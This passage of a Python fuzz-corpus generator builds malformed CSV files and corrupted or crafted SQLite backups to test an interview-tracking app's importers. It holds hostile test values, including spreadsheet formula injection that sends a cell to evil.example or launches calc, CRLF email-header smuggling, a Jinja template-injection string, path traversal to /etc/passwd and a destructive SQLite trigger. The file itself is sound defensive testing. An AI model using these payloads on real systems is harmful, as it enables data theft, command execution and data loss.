    put("csv", "cp1252_smart_quotes.csv", with_cell("company", "“Acme” – ltd").encode("cp1252"))
    put("csv", "invalid_utf8.csv", export.encode().replace(b"Acme", b"\xff\xfe\xfd"))
    put("csv", "nul_bytes.csv", export.replace(",", ",\x00", 3))
    put("csv", "binary_random_4k.csv", noise(8, 4096))
    put("csv", "wrong_columns_all_unknown.csv", "foo,bar,baz\r\n1,2,3\r\n")
    put("csv", "missing_company_column.csv", export.replace("company,", "", 1))
    put("csv", "duplicate_columns.csv", export.replace("role,", "company,", 1))
    put(
        "csv",
        "header_columns_with_spaces_and_case.csv",
        export.replace(header, header.upper().replace(",", " , ")),
    )
    put(
        "csv",
        "ragged_rows_short.csv",
        header + "\r\n" + "\r\n".join(r[: len(r) // 2] for r in rows) + "\r\n",
    )
    put(
        "csv",
        "ragged_rows_long.csv",
        header + "\r\n" + "\r\n".join(r + ",x,y,z" for r in rows) + "\r\n",
    )
    put("csv", "quote_unterminated.csv", export.replace("Acme", '"Acme', 1))
    put("csv", "quote_in_middle_of_field.csv", export.replace("Acme", 'Ac"m"e', 1))
    put("csv", "field_50k_chars.csv", with_cell("topics", "t" * 50_000))
    put("csv", "rows_300.csv", header + "\r\n" + "\r\n".join(rows[:1] * 300) + "\r\n")
    put(
        "csv",
        "columns_2000.csv",
        header
        + ","
        + ",".join(f"x{i}" for i in range(2000))
        + "\r\n"
        + rows[0]
        + "," * 2000
        + "\r\n",
    )
    put("csv", "semicolon_delimited.csv", export.replace(",", ";"))
    put("csv", "tab_delimited.csv", export.replace(",", "\t"))
    put("csv", "cr_only.csv", export.replace("\r\n", "\r").replace("\n", "\r"))
    put("csv", "lf_crlf_mixed.csv", export.replace("\r\n", "\n", 1))
    for label, value in {
        "formula_hyperlink_company": '=HYPERLINK("http://evil.example/?x="&A1,"Acme")',
        "formula_plus_company": "+1+cmd|' /C calc'!A0",
        "formula_minus_company": "-2+3",
        "formula_at_company": "@SUM(1+1)*cmd|' /C calc'!A0",
        "formula_tab_company": "\t=1+1",
        "formula_cr_company": "\r=1+1",
        "company_crlf_header_injection": "Acme\r\nBcc: x@evil.example",
        "company_jinja": "{{ cycler.__init__.__globals__ }}",
        "company_empty": "",
    }.items():
        put("csv", f"{label}.csv", with_cell("company", value))
    put(
        "csv",
        "formula_hyperlink_interviewer.csv",
        with_cell("interviewers", '=HYPERLINK("http://evil.example") <ada@acme.example>'),
    )
    for column, label, value in (
        ("start", "start_garbage", "next week"),
        ("start", "start_year_0001", "0001-01-01T00:00:00Z"),
        ("start", "start_year_9999", "9999-12-31T23:59:59Z"),
        ("start", "start_feb_30", "2026-02-30T10:00:00Z"),
        ("start", "start_empty", ""),
        ("tz", "tz_unknown", "Mars/Olympus_Mons"),
        ("tz", "tz_path_traversal", "../../../../etc/passwd"),
        ("duration_minutes", "duration_negative", "-60"),
        ("duration_minutes", "duration_zero", "0"),
        ("duration_minutes", "duration_huge", "9" * 40),
        ("duration_minutes", "duration_float", "59.5"),
        ("duration_minutes", "duration_nan", "nan"),
        ("duration_minutes", "duration_1e308", "1e308"),
        ("round", "round_garbage", "second"),
        ("round", "round_huge", "9" * 30),
        ("round", "round_negative", "-1"),
        ("status", "status_unknown_enum", "ghosted"),
        ("culture", "culture_unknown_enum", "anarchist"),
        ("country", "country_garbage", "Narnia!!"),
        ("interviewers", "interviewers_garbage", ";;;<<<>>>@@@"),
        ("interviewers", "interviewer_email_crlf", "Ada <ada@acme.example\r\nBcc: x@evil.example>"),
        ("interviewers", "interviewer_last_first_unquoted", "Lovelace, Ada <ada@acme.example>"),
        (
            "interviewers",
            "interviewers_500",
            "; ".join(f"P{i} <p{i}@acme.example>" for i in range(500)),
        ),
        ("application_id", "application_id_garbage", "abc"),
        ("application_id", "application_id_huge", "9" * 30),
        ("thank_you_sent_at", "thank_you_sent_at_garbage", "yesterday"),
        ("thank_you_sent_at", "thank_you_sent_at_year_9999", "9999-12-31T23:59:59Z"),
        ("thank_you_sent_at", "thank_you_sent_at_before_start", "2000-01-01T00:00:00Z"),
        ("follow_up_sent_at", "follow_up_without_thank_you", "2026-11-20T10:00:00Z"),
        ("expect_by", "expect_by_garbage", "soonish"),
        ("next_step", "next_step_99", "99"),
    ):
        put("csv", f"{label}.csv", with_cell(column, value))
    put(
        "csv",
        "tracker_date_unparseable.csv",
        CSV_TRACKER.replace("2026-12-01 14:00", "the first of Decembruary"),
    )
    put("csv", "tracker_email_garbage.csv", CSV_TRACKER.replace("ada@acme.example", "ada at acme"))
    put(
        "csv",
        "tracker_all_columns_empty.csv",
        "Company,Job Title,Interview Date,Contact Email\r\n,,,\r\n,,,\r\n",
    )
    assert cols  # the export has a header


def shrink(path: Path) -> None:
    """Make a backup small and byte-stable: rollback journal, 512-byte pages, fixed stamps."""
    con = sqlite3.connect(path)
    con.execute("PRAGMA journal_mode=DELETE")
    con.execute("UPDATE schema_migrations SET applied_at = ?", (NOW,))
    con.execute("UPDATE calendar_identity SET install_id = 'fuzz-corpus'")
    con.commit()
    con.execute("PRAGMA page_size=512")
    con.execute("VACUUM")
    con.close()


TABLES = ("applications", "interviews", "interviewers", "notes", "inbound_messages",
          "debriefs", "schema_migrations")  # fmt: skip

# Backups of this followup changed by SQL: each is written to the corpus (from the backup
# made here), and test_corpus.py also applies each to a backup of the running version, so
# the column and migration checks are met however the schema moves on.
SQLITE_VARIANTS: dict[str, tuple[str, ...]] = {
    **{f"missing_table_{t}": (f"DROP TABLE {t}",) for t in TABLES},
    "all_tables_dropped": tuple(f"DROP TABLE {t}" for t in TABLES),
    "wrong_columns_notes_same_name": ("DROP TABLE notes", "CREATE TABLE notes (x TEXT, y BLOB)"),
    "wrong_columns_interviews_same_name": (
        "DROP TABLE interviews",
        "CREATE TABLE interviews (id INTEGER PRIMARY KEY, what TEXT)",
    ),
    "missing_columns_notes_approval": (
        "ALTER TABLE notes DROP COLUMN approved_message",
        "ALTER TABLE notes DROP COLUMN approved_to",
    ),
    "missing_column_interviews_tz": ("ALTER TABLE interviews DROP COLUMN tz",),
    "extra_column_everywhere": tuple(
        f"ALTER TABLE {t} ADD COLUMN surprise TEXT DEFAULT 'x'" for t in TABLES
    ),
    "table_replaced_by_view": (
        "ALTER TABLE debriefs RENAME TO debriefs_old",
        "CREATE VIEW debriefs AS SELECT * FROM debriefs_old",
    ),
    "hostile_trigger_on_notes": (
        "CREATE TRIGGER evil AFTER UPDATE ON notes BEGIN DELETE FROM applications; END",
    ),
    "future_migration_version_9999": (
        f"INSERT INTO schema_migrations VALUES (9999, 'from_the_future', '{NOW}')",
    ),
    "migrations_table_empty": ("DELETE FROM schema_migrations",),
    "migrations_only_first": ("DELETE FROM schema_migrations WHERE version > 1",),
    "migrations_garbage_names_and_dates": (
        "UPDATE schema_migrations SET name = x'00ff', applied_at = 'never'",
    ),
    "user_version_huge": ("PRAGMA user_version = 2147483647",),
    "garbage_instants_everywhere": (
        "UPDATE interviews SET start_at = 'not a time', end_at = 'x', status_at = '0001-01-01'",
        "UPDATE notes SET due_at = 'soon', earliest_at = '9999-99-99T99:99:99Z', sent_at = 'x'",
    ),
    "instants_as_integers": ("UPDATE interviews SET start_at = 1763298000, end_at = 1763301600",),
    "instants_year_0001": (
        "UPDATE interviews SET start_at = '0001-01-01T00:00:00Z', end_at = '0001-01-01T01:00:00Z'",
    ),
    "instants_year_9999": (
        "UPDATE notes SET due_at = '9999-12-31T23:59:59Z', earliest_at = '9999-12-31T23:59:59Z'",
    ),
    "tz_unknown": ("UPDATE interviews SET tz = 'Mars/Olympus_Mons'",),
    "tz_path_traversal": ("UPDATE interviews SET tz = '../../../../etc/passwd'",),
    "enum_values_unknown": (
        "UPDATE notes SET state = 'teleported', kind = 'grovel'",
        "UPDATE interviews SET status = 'ghosted'",
        "UPDATE applications SET culture = 'anarchist', tone = 'sarcastic'",
    ),
    "step_99": ("UPDATE notes SET step = 99",),
    "nulls_in_not_null_columns": (
        "ALTER TABLE applications RENAME TO a_old",
        "CREATE TABLE applications (id INTEGER PRIMARY KEY, company TEXT, role TEXT, culture TEXT, country TEXT, domains TEXT, tone TEXT, created_at TEXT)",
        "INSERT INTO applications SELECT id, NULL, NULL, NULL, NULL, NULL, NULL, NULL FROM a_old",
        "DROP TABLE a_old",
    ),
    "blobs_in_text_columns": ("UPDATE applications SET company = x'00ff00ff', role = x'deadbeef'",),
    "dangling_foreign_keys": (
        "UPDATE interviews SET application_id = 424242 + id",
        "UPDATE notes SET interviewer_id = 999",
    ),
    "duration_negative": ("UPDATE interviews SET duration_min = -60",),
    "duration_huge_real": ("UPDATE interviews SET duration_min = 1e308",),
    "company_30k_chars": (
        "UPDATE applications SET company = printf('%.*c', 30000, 'A') WHERE id = 1",
    ),
    "approved_message_spoofed": (
        f"UPDATE notes SET state = 'pending', approved_at = '{NOW}', approved_to = 'x@evil.example', approved_message = 'Bcc: x@evil.example'",
    ),
    "wal_journal_mode_header": ("PRAGMA journal_mode=WAL",),
}


def sqlite_variant(data: bytes, statements: tuple[str, ...]) -> bytes:
    """The database in `data` after `statements` (CHECK and foreign keys not enforced)."""
    with tempfile.TemporaryDirectory() as scratch:
        path = Path(scratch) / "v.db"
        path.write_bytes(data)
        con = sqlite3.connect(path, isolation_level=None)
        con.execute("PRAGMA ignore_check_constraints=ON")
        con.execute("PRAGMA foreign_keys=OFF")
        con.execute("PRAGMA legacy_alter_table=ON")
        # as an attacker would: the triggers (the stats' and the board's aggregates) out of
        # the way while the rows are changed, then put back as they were, so the file has
        # every schema object of this version and only its rows are crafted
        triggers = con.execute(
            "SELECT name, sql FROM sqlite_master WHERE type = 'trigger'"
        ).fetchall()
        for name, _ in triggers:
            con.execute(f'DROP TRIGGER "{name}"')
        for statement in statements:
            con.execute(statement)
        for _, sql in triggers:
            # a variant that dropped or renamed the trigger's table: no trigger to put back
            with contextlib.suppress(sqlite3.OperationalError):
                con.execute(sql)
        con.execute("VACUUM")
        con.close()
        return path.read_bytes()


def make_sqlite(good: Path) -> None:
    data = good.read_bytes()
    put("sqlite", "seed_real_backup.db", data)
    put("sqlite", "empty_0_bytes.db", b"")
    put("sqlite", "not_sqlite_text.db", "this is not a database\n")
    put("sqlite", "not_sqlite_json_export.db", '{"format": "followup-export", "version": 1}')
    put("sqlite", "header_only_100_bytes.db", data[:100])
    put("sqlite", "truncated_first_page.db", data[:512])
    put("sqlite", "truncated_half.db", data[: len(data) // 2])
    put("sqlite", "truncated_last_byte.db", data[:-1])
    put("sqlite", "random_bytes_after_header.db", data[:100] + noise(9, len(data) - 100))
    flipped = bytearray(data)
    for i in range(2048, len(flipped), 997):
        flipped[i] ^= 0xFF
    put("sqlite", "corrupt_pages_bytes_flipped.db", bytes(flipped))
    put("sqlite", "page_size_field_garbage.db", data[:16] + b"\x00\x03" + data[18:])
    put("sqlite", "gzip_not_sqlite.db", b"\x1f\x8b\x08\x00" + noise(10, 600))
    with tempfile.TemporaryDirectory() as scratch:
        empty = Path(scratch) / "e.db"
        sqlite3.connect(empty).execute("CREATE TABLE t (x)").connection.close()
        put("sqlite", "other_app_database.db", empty.read_bytes())
    for name, statements in SQLITE_VARIANTS.items():
        put("sqlite", f"{name}.db", sqlite_variant(data, statements))


def fresh_seeds() -> tuple[str, str, bytes]:
    """A real JSON export, CSV export and (shrunk) backup of a small home, made now."""
    with tempfile.TemporaryDirectory() as scratch:
        home = Path(scratch) / "home"
        small_home(home)
        backup = Path(scratch) / "backup.db"
        followup(home, "backup", str(backup))
        shrink(backup)
        return (
            followup(home, "export", "--format", "json"),
            followup(home, "export", "--format", "csv"),
            backup.read_bytes(),
        )


def committed_seeds() -> tuple[str, str, bytes]:
    return (
        (CORPUS / "json" / "seed_real_export.json").read_text(encoding="utf-8"),
        (CORPUS / "csv" / "seed_real_export.csv").read_bytes().decode("utf-8"),
        (CORPUS / "sqlite" / "seed_real_backup.db").read_bytes(),
    )


def main(argv: list[str]) -> None:
    export_json, export_csv, backup = (
        fresh_seeds() if "--fresh" in argv or not CORPUS.exists() else committed_seeds()
    )
    if CORPUS.exists():
        shutil.rmtree(CORPUS)
    for kind in KINDS:
        (CORPUS / kind).mkdir(parents=True)
    make_ics()
    make_eml()
    make_notes()
    make_toml()
    make_json(json.loads(export_json))
    make_csv(export_csv)
    with tempfile.TemporaryDirectory() as scratch:
        seed = Path(scratch) / "seed.db"
        seed.write_bytes(backup)
        make_sqlite(seed)
    total = sum(_written.values())
    print(f"wrote {total} files: " + ", ".join(f"{k} {_written.get(k, 0)}" for k in KINDS))


if __name__ == "__main__":
    main(sys.argv[1:])
